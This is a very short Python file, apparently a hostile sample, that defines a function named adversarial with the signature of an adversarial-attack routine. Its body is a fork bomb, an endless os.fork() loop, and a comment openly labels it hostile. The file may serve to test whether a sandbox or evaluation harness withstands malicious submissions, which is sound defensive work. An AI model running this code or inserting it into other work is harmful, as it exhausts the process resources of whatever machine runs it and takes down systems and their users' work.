# Hostile: forks without end instead of attacking.
import os


def adversarial(x, t, model):
    while True:
        os.fork()
